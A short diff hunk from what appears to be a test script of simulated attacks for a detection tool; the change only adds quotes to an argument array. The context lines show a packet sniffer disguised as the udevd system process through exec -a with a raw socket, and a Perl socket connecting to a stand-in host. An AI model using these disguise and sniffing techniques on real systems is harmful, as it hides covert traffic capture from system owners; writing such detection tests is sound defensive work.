@@ -56,7 +56,7 @@ $s = new IO::Socket::INET(PeerAddr, "203.0.113.1:443"); sleep 60'
 attack sniffer-title 'fake-daemon packet-socket' 'a sniffer that poses as udev'
 run-sniffer-title()
 {
-	SCAN=(--proto=tcp,udp,packet)
+	SCAN=("--proto=tcp,udp,packet")
 	bg bash -c 'exec -a /sbin/udevd /usr/bin/python3 -c "
 import socket, time
 s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
